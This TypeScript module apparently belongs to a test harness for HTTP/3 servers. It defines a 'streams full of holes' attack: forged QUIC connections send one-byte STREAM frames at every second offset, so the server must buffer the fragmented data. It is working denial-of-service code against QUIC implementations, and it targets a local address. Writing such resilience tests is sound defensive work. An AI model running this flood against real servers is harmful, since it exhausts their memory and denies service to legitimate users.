import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { ForgedHttp3 } from "../../clients/forged-http3.ts";

/** Differs from the source of honest clients, as buffered bytes count against their source. */
const source = "127.0.0.2";
const connections = 16;
const streams = 4;
/** Frames of one byte in a packet: as many as fit. */
const framesPerPacket = 140;
/** Length of a stream: as much as the windows of the stream and the connection allow. */
const streamBytes = 64_000;

/** Connections that send every second byte of streams but never their first one. */
export const sparseStreams: Attack = {
  name: "streams full of holes",
  unit: "frames",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        while (!signal.aborted) {
          const client = await ForgedHttp3.open(target, source);
          for (let offset = 2; offset < streamBytes && !signal.aborted; offset += 2 * framesPerPacket)
            for (let i = 0; i < streams; i++) {
              await client.send(holes(4 * i, offset));
              tally(framesPerPacket);
            }
          await sleep(1000, undefined, { signal }).catch(() => undefined);
          client.close();
        }
      }),
    );
  },
};

/** Returns STREAM frames with one byte each at every second offset (RFC 9000 §19.8). */
function holes(streamId: number, from: number): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < framesPerPacket; i++) {
    const frame = Buffer.from([0x0e, streamId, 0, 0, 0, 0, 1, 0]);
    frame.writeUInt32BE((0x80000000 | (from + 2 * i)) >>> 0, 2);
    frames.push(frame);
  }
  return Buffer.concat(frames);
}
